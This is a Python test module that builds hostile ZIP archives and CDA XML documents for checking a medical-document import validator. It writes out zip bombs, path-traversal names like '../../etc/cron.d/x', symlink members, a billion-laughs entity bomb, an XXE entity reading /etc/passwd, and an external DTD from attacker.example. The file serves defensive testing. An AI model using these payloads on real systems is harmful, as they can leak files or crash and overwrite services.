"""Which archives and documents would an attacker send?

Builders by name, each with the reasons that may refuse it. Built on demand: the largest has a few MiB on
the wire.
"""

from __future__ import annotations

import hashlib
import io
import random
import re
import struct
import warnings
import zipfile
from collections.abc import Callable

from mss.model.verdict import Reason
from tests.kit.dirtyzip import members, pack
from tests.kit.documents import make_cda, make_package

Hostile = dict[str, tuple[Callable[[], bytes], Reason]]

_METADATA = "IHE_XDM/SUBSET01/METADATA.XML"
_DOCUMENT = "IHE_XDM/SUBSET01/DOC00001.XML"
_BOMB_BYTES = 32 * 1024 * 1024
_LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
_LAUGH_DOCTYPE = f'<!DOCTYPE x [<!ENTITY l0 "ha">{_LAUGHS}]>'
_XXE_DOCTYPE = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'


def _package(**changes: bytes | None) -> bytes:
    """A good archive with some files changed, added or (None) left out; `__` in a name stands for `/`."""
    files: dict[str, bytes | None] = {**members(make_package(make_cda()))}
    files.update({_METADATA if name == "metadata" else _DOCUMENT: content for name, content in changes.items()})
    return pack((name, content) for name, content in files.items() if content is not None)


def _with(name: str, content: bytes = b"x") -> bytes:
    return pack([*members(make_package(make_cda())).items(), (name, content)])


def _member(change: Callable[[zipfile.ZipInfo], None]) -> bytes:
    """A good archive with one more member of unusual kind."""
    buffer = io.BytesIO(make_package(make_cda()))
    with zipfile.ZipFile(buffer, "a") as archive:
        member = zipfile.ZipInfo("EXTRA.TXT", (2026, 1, 5, 9, 30, 0))
        change(member)
        archive.writestr(member, b"/etc/passwd" * 9)
    return buffer.getvalue()


def _symlink(member: zipfile.ZipInfo) -> None:
    member.create_system = 3
    member.external_attr = 0o120777 << 16


def _lzma(member: zipfile.ZipInfo) -> None:
    member.compress_type = zipfile.ZIP_LZMA


def _patched(data: bytes, offset: int, layout: str, value: int, which: int = -1) -> bytes:
    """Change a field of one central directory entry (APPNOTE §4.3.12)."""
    places = [found.start() for found in re.finditer(re.escape(b"PK\x01\x02"), data)]
    out = bytearray(data)
    struct.pack_into(layout, out, places[which] + offset, value)
    return bytes(out)


def _lying(size: int) -> bytes:
    """The document's member declares another size than it has."""
    return _patched(_package(), 24, "<I", size)


def lying_bomb() -> bytes:
    """A document of 32 MiB that declares ten bytes."""
    return _patched(_package(document=bytes(_BOMB_BYTES)), 24, "<I", 10)


def _overlapping() -> bytes:
    """The second member begins where the first one does."""
    return _patched(_package(), 42, "<I", 0, which=1)


def _duplicate(name: str) -> bytes:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        return _with(name)


def _declared_many() -> bytes:
    """A million central entries would take a gigabyte of our memory before the first check of a naive reader."""
    return b"PK\x01\x02".ljust(46, b"\x00") * 100_000 + struct.pack(
        "<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, 4_600_000, 0, 0
    )


def _metadata(change: Callable[[str], str]) -> bytes:
    """A good archive with changed METADATA.XML."""
    text = members(make_package(make_cda()))[_METADATA].decode()
    return _package(metadata=change(text).encode())


def _words(size: int) -> str:
    """Text that does not compress."""
    return random.Random(4).randbytes(size // 2).hex()


def _doctype(doctype: str) -> Callable[[str], str]:
    return lambda text: text.replace("?>", f"?>{doctype}", 1)


def _slow_ratio() -> bytes:
    """80 MiB at a ratio under 200: only the total refuses it."""
    block = random.Random(1).randbytes(400) + bytes(39_600)
    return pack((f"IHE_XDM/SUBSET01/F{number:02}.BIN", block * 210) for number in range(10))


ARCHIVES: Hostile = {
    "nothing": (lambda: b"", Reason.ARCHIVE_BROKEN),
    "noise": (lambda: random.Random(2).randbytes(50_000), Reason.ARCHIVE_BROKEN),
    "truncated": (lambda: _package()[:-200], Reason.ARCHIVE_BROKEN),
    "cut in a member": (lambda: _package()[200:], Reason.ARCHIVE_BROKEN),
    "bomb 1000:1": (lambda: _package(document=bytes(_BOMB_BYTES)), Reason.ARCHIVE_UNSAFE),
    "total too large": (_slow_ratio, Reason.ARCHIVE_UNSAFE),
    "declares too little": (lambda: _lying(10), Reason.ARCHIVE_BROKEN),
    "declares too much": (lambda: _lying(900_000), Reason.ARCHIVE_BROKEN),
    "bomb that declares ten bytes": (lying_bomb, Reason.ARCHIVE_BROKEN),
    "declares 4 GiB": (lambda: _lying(0xFFFFFFFE), Reason.ARCHIVE_UNSAFE),
    "overlapping members": (_overlapping, Reason.ARCHIVE_UNSAFE),
    "5,000 members": (lambda: pack((f"F{n}.TXT", b"x") for n in range(5000)), Reason.ARCHIVE_UNSAFE),
    "100,000 declared members": (_declared_many, Reason.ARCHIVE_UNSAFE),
    "climbs out": (lambda: _with("../../etc/cron.d/x"), Reason.ARCHIVE_UNSAFE),
    "climbs out by backslash": (lambda: _with("..\\..\\x.txt"), Reason.ARCHIVE_UNSAFE),
    "climbs out later": (lambda: _with("IHE_XDM/../../x.txt"), Reason.ARCHIVE_UNSAFE),
    "absolute": (lambda: _with("/etc/passwd"), Reason.ARCHIVE_UNSAFE),
    "drive": (lambda: _with("C:\\x.txt"), Reason.ARCHIVE_UNSAFE),
    "control character": (lambda: _with("a\nb.txt"), Reason.ARCHIVE_UNSAFE),
    "too deep a path": (lambda: _with("a/" * 50 + "x"), Reason.ARCHIVE_UNSAFE),
    "symbolic link": (lambda: _member(_symlink), Reason.ARCHIVE_UNSAFE),
    "unusual compression": (lambda: _member(_lzma), Reason.ARCHIVE_UNSAFE),
    "encrypted": (lambda: _patched(_package(), 8, "<H", 1), Reason.ARCHIVE_UNSAFE),
    "same name twice": (lambda: _duplicate(_DOCUMENT), Reason.ARCHIVE_UNSAFE),
    "same name in lower case": (lambda: _duplicate(_DOCUMENT.lower()), Reason.ARCHIVE_UNSAFE),
    "no metadata": (lambda: pack([("README.TXT", b"x")]), Reason.METADATA_BROKEN),
    "metadata of 5 MB": (lambda: _metadata(lambda text: text + f"<!--{_words(5_000_000)}-->"), Reason.METADATA_BROKEN),
    "metadata not XML": (lambda: _package(metadata=b"%PDF-1.4"), Reason.METADATA_BROKEN),
    "metadata with DOCTYPE": (lambda: _metadata(_doctype("<!DOCTYPE x>")), Reason.METADATA_BROKEN),
    "metadata with entity bomb": (lambda: _metadata(_doctype(_LAUGH_DOCTYPE)), Reason.METADATA_BROKEN),
    "metadata with XXE": (lambda: _metadata(_doctype(_XXE_DOCTYPE)), Reason.METADATA_BROKEN),
    "metadata too deep": (lambda: _package(metadata=b"<a>" * 5000 + b"</a>" * 5000), Reason.METADATA_BROKEN),
    "metadata of another kind": (lambda: _package(metadata=b"<a/>"), Reason.METADATA_BROKEN),
    "no submission set": (
        lambda: _metadata(lambda text: text.replace("RegistryPackage", "Other")), Reason.METADATA_BROKEN,
    ),
    "two submission sets": (
        lambda: _metadata(lambda text: re.sub(r"(?s)(<rim:RegistryPackage.*</rim:RegistryPackage>)", r"\1\1", text)),
        Reason.METADATA_BROKEN,
    ),
    "endless title": (
        lambda: _metadata(lambda text: text.replace('value="Compte', f'value="{_words(9000)}')), Reason.METADATA_BROKEN,
    ),
    "no uniqueId": (lambda: _metadata(lambda text: text.replace("2e82c1f6", "2e82c1f7")), Reason.METADATA_BROKEN),
    "document missing": (lambda: _package(document=None), Reason.METADATA_BROKEN),
    "document outside": (
        lambda: _metadata(lambda text: text.replace(">DOC00001.XML<", ">../../../etc/passwd<")), Reason.METADATA_BROKEN,
    ),
    "document altered": (lambda: _package(document=make_cda().replace(b"10.2", b"10.3")), Reason.HASH_MISMATCH),
    "size altered": (
        lambda: _metadata(lambda text: re.sub(r'(name="size">\s*<rim:ValueList>\s*<rim:Value>)\d+', r"\g<1>7", text)),
        Reason.HASH_MISMATCH,
    ),
}  # fmt: skip


def sha1_of(content: bytes) -> str:
    """As METADATA.XML declares it."""
    return hashlib.sha1(content, usedforsecurity=False).hexdigest()


def _cda(change: Callable[[str], str]) -> bytes:
    return change(make_cda().decode()).encode()


def _narrative(markup: str) -> Callable[[str], str]:
    """A document whose first narrative begins with `markup`."""
    return lambda text: text.replace("<text>", f"<text>{markup}", 1)


DOCUMENTS: Hostile = {
    "nothing": (lambda: b"", Reason.CDA_BROKEN),
    "noise": (lambda: random.Random(3).randbytes(5000), Reason.CDA_BROKEN),
    "truncated": (lambda: make_cda()[:-500], Reason.CDA_BROKEN),
    "another XML": (lambda: b"<html xmlns='urn:hl7-org:v3'/>", Reason.CDA_BROKEN),
    "DOCTYPE": (lambda: _cda(_doctype("<!DOCTYPE ClinicalDocument>")), Reason.CDA_BROKEN),
    "DOCTYPE in UTF-16": (
        lambda: _cda(_doctype("<!DOCTYPE x>")).decode().replace("UTF-8", "UTF-16").encode("utf-16"), Reason.CDA_BROKEN,
    ),
    "entity bomb": (
        lambda: _cda(lambda text: _narrative("&l9;")(_doctype(_LAUGH_DOCTYPE)(text))), Reason.CDA_BROKEN,
    ),
    "XXE": (lambda: _cda(lambda text: _narrative("&e;")(_doctype(_XXE_DOCTYPE)(text))), Reason.CDA_BROKEN),
    "external DTD": (
        lambda: _cda(_doctype('<!DOCTYPE x SYSTEM "http://attacker.example/x.dtd">')), Reason.CDA_BROKEN,
    ),
    "too deep": (
        lambda: _cda(_narrative("<content>" * 5000 + "</content>" * 5000)), Reason.CDA_BROKEN,
    ),
    "too many elements": (lambda: _cda(_narrative("<br/>" * 500_000)), Reason.CDA_BROKEN),
    "too many attributes": (
        lambda: _cda(_narrative("<br " + " ".join(f'a{n}=""' for n in range(900_000)) + "/>")), Reason.CDA_BROKEN,
    ),
    "11 MiB": (lambda: _cda(_narrative("x" * 11 * 1024 * 1024)), Reason.CDA_BROKEN),
    "Latin-1 called UTF-8": (lambda: make_cda().decode().encode("latin-1", "replace"), Reason.CDA_BROKEN),
    "unknown encoding": (lambda: make_cda().replace(b"UTF-8", b"X-NONE"), Reason.CDA_BROKEN),
    "two patients": (
        lambda: _cda(lambda text: text.replace("<author>", "<recordTarget><patientRole/></recordTarget><author>", 1)),
        Reason.CDA_BROKEN,
    ),
    "no patient": (lambda: _cda(lambda text: text.replace("recordTarget", "recordTargot")), Reason.CDA_BROKEN),
    "no id": (lambda: _cda(lambda text: re.sub(r"<id root=.1.2.250.1.999.1.1. .*?/>", "", text)), Reason.CDA_BROKEN),
    "endless title": (
        lambda: _cda(lambda text: text.replace("<title>", "<title>" + "a" * 1_000_000, 1)), Reason.CDA_BROKEN,
    ),
    "a thousand patient ids": (
        lambda: _cda(lambda text: text.replace("<patientRole>", "<patientRole>" + '<id root="1.2"/>' * 1000)),
        Reason.CDA_BROKEN,
    ),
}  # fmt: skip
